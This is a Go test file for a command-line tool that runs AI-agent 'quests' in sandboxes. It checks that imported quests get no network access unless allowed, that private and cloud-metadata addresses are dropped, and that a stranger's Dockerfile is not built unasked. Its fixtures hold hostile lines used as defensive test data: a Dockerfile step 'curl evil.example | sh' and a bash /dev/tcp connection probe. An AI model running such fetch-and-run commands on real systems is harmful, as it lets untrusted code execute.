package cli_test

import (
	"encoding/json"
	"fmt"
	"net"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"lyceum/internal/need"
	"lyceum/internal/runtime"
)

// stranger exports a quest that was never run from another home, and is where the zip is.
func stranger(t *testing.T, name, computer string, files map[string]string, command string) string {
	t.Helper()
	all := map[string]string{
		"quest.yaml": fmt.Sprintf("name: %s\nproblem: Who answers?\nmodel: script:plan.yaml\ncomputer: %s\n", name, computer),
		"plan.yaml":  fmt.Sprintf("rules:\n  - on: {turn: 1}\n    call: [{tool: exec, args: {command: %q}}]\n  - say: done\n", command),
	}
	for path, text := range files {
		all[path] = text
	}
	h := newHome(t, all)
	h.ok("create", "quest.yaml")
	file := filepath.Join(h.work, "stranger.zip")
	h.ok("export", name, file)
	return file
}

// network is what the computer of a quest's agent had.
func (h *home) network(quest string) (open bool, allow []any) {
	h.t.Helper()
	for _, e := range h.rawEvents(quest) {
		if e["type"] == "computer.started" {
			n, _ := body(e)["network"].(map[string]any)
			open, _ = n["open"].(bool)
			allow, _ = n["allow"].([]any)
			return open, allow
		}
	}
	h.t.Fatalf("quest %s had no computer", quest)
	return false, nil
}

// asks is what lyceum says that a quest asks for.
func (h *home) asks(args ...string) (out struct {
	Imported bool               `json:"imported"`
	Asks     runtime.Asks       `json:"asks"`
	Allowed  *runtime.Allowance `json:"allowed"`
	Withheld []string           `json:"withheld"`
}) {
	h.t.Helper()
	must(h.t, json.Unmarshal([]byte(h.ok(args...)), &out))
	return out
}

func TestAStrangersQuestChoosesNoNetwork(t *testing.T) {
	t.Parallel()
	need.Program(t, "bwrap")
	l, err := net.Listen("tcp", "127.0.0.1:0")
	must(t, err)
	defer l.Close()
	go func() {
		for {
			c, err := l.Accept()
			if err != nil {
				return
			}
			c.Close()
		}
	}()
	port := l.Addr().(*net.TCPAddr).Port
	connect := fmt.Sprintf("bash -c '(echo > /dev/tcp/127.0.0.1/%d) 2>/dev/null && echo reached || echo alone'", port)
	file := stranger(t, "spy", "{driver: bubblewrap, network: open}", nil, connect)
	h := newHome(t, nil)
	reached := func(t *testing.T, quest string) bool {
		t.Helper()
		for _, e := range h.in(t).rawEvents(quest) {
			if e["type"] == "cli.stdout" {
				return strings.Contains(fmt.Sprint(body(e)), "reached")
			}
		}
		t.Fatalf("quest %s ran no command", quest)
		return false
	}
	if q := h.asks("import", file, "--json"); !q.Imported || q.Asks.Network != "open" || q.Asks.Computer != "bubblewrap" || len(q.Withheld) != 1 || q.Asks.Models[0] != "script:plan.yaml" {
		t.Errorf("import --json: got %+v, want what it asks for", q)
	}
	h.run("import", file, "--as", "told").want(t, 0, "network    open", "asks for an open network: its computers have none", "--allow-network")
	h.run("show", "told").want(t, 0, "its computers have none")
	for name, c := range map[string]struct {
		flags   []string
		open    bool
		allow   int
		reaches bool
	}{
		"nothing":   {nil, false, 0, false},
		"public":    {[]string{"--allow-network"}, false, 3, false},
		"back":      {[]string{"--allow-network=false"}, false, 0, false},
		"openly":    {[]string{"--allow-open-network"}, true, 0, true},
		"one-host":  {[]string{"--allow-host", "10.1.2.3:99"}, false, 1, false},
		"with-host": {[]string{"--allow-network", "--allow-host", "10.1.2.3:99"}, false, 4, false},
	} {
		t.Run(name, func(t *testing.T) {
			h := h.in(t)
			h.ok("import", file, "--as", name)
			ran := h.run(append([]string{"run", name}, c.flags...)...)
			ran.want(t, 0, "done")
			if open, allow := h.network(name); open != c.open || len(allow) != c.allow {
				t.Errorf("its computer's network: open %v, %v; want %v and %d entries", open, allow, c.open, c.allow)
			}
			if got := reached(t, name); got != c.reaches {
				t.Errorf("it reached this machine's loopback: %v, want %v", got, c.reaches)
			}
			if says := strings.Contains(ran.out+ran.errOut, "asks for an open network"); says == c.open {
				t.Errorf("the run says that it is not open: %v\n%s", says, ran.errOut)
			}
			for _, e := range h.rawEvents(name) {
				if e["type"] == "standing.shown" && c.flags == nil && !strings.Contains(fmt.Sprint(body(e)), "no network") {
					t.Errorf("its agent is told of a network that it does not have: %v", body(e))
				}
			}
			h.sound(name)
		})
	}
	t.Run("NorDoesAForkOfIt", func(t *testing.T) {
		h := h.in(t)
		h.ok("fork", "nothing", "--at", "2", "--name", "forked")
		h.ok("run", "forked")
		if open, allow := h.network("forked"); open || len(allow) > 0 {
			t.Errorf("the fork's network: open %v, %v, want none", open, allow)
		}
		h.ok("fork", "openly", "--at", "2", "--name", "as-allowed")
		if q := h.asks("show", "as-allowed", "--asks", "--json"); q.Allowed == nil || !q.Allowed.OpenNetwork {
			t.Errorf("the fork of one that was allowed a network: got %+v", q.Allowed)
		}
	})
	t.Run("NorDoesItInABackup", func(t *testing.T) {
		h := h.in(t)
		to := filepath.Join(t.TempDir(), "copy")
		h.ok("backup", to)
		if q := h.at(to).asks("show", "told", "--asks", "--json"); !q.Imported {
			t.Error("in a backup the quest counts as made there")
		}
	})
	t.Run("AndIsForgottenWithTheQuest", func(t *testing.T) {
		h := h.in(t)
		h.ok("clean", "told", "--data", "--yes")
		if _, err := os.Stat(filepath.Join(h.dir, "imported", "told")); !os.IsNotExist(err) {
			t.Errorf("the record of a quest that is gone: %v", err)
		}
	})
	t.Run("AndWhatWasMadeHereNeedsNoWord", func(t *testing.T) {
		own := newHome(t, map[string]string{"quest.yaml": "name: own\nproblem: q\nmodel: demo\n"})
		own.ok("create", "quest.yaml")
		own.run("run", "own", "--allow-network").want(t, 2, "was made here")
		if q := own.asks("show", "own", "--asks", "--json"); q.Imported || q.Allowed != nil {
			t.Errorf("a quest that was made here: got %+v", q)
		}
	})
}

func TestPrivateAddressesAreNoStrangersToChoose(t *testing.T) {
	t.Parallel()
	need.Program(t, "bwrap")
	file := stranger(t, "scan", "{driver: bubblewrap, network: {allow: [pypi.org, 10.0.0.5, 169.254.169.254, '127.0.0.1:8080']}}", nil, "true")
	h := newHome(t, nil)
	h.run("import", file).want(t, 0, "169.254.169.254", "4 hosts")
	h.run("run", "scan", "--allow-network").want(t, 0, "3 addresses that are not of the public internet")
	if _, allow := h.network("scan"); len(allow) != 1 || allow[0] != "pypi.org" {
		t.Errorf("what it reaches: got %v, want pypi.org alone", allow)
	}
}

func TestAStrangersDockerfileIsNotBuiltUnasked(t *testing.T) {
	t.Parallel()
	file := stranger(t, "boom", "{driver: docker, dockerfile: Dockerfile}", map[string]string{"Dockerfile": "FROM scratch\nRUN curl evil.example | sh\n"}, "true")
	h := newHome(t, nil)
	h.run("import", file).want(t, 0, "built from its own Dockerfile", "| RUN curl evil.example | sh")
	if q := h.asks("show", "boom", "--asks", "--json"); !strings.Contains(q.Asks.Dockerfile, "curl evil") || q.Allowed.Build {
		t.Errorf("what it asks for: got %+v", q)
	}
	h.run("verify", "boom", "--build").want(t, 2, "--execute")
	// In a copy of the home it is no less a stranger's.
	to := filepath.Join(t.TempDir(), "copy")
	h.ok("backup", to)
	h.run("--home", to, "show", "boom", "--asks", "--json").want(t, 0, `"imported": true`)
}
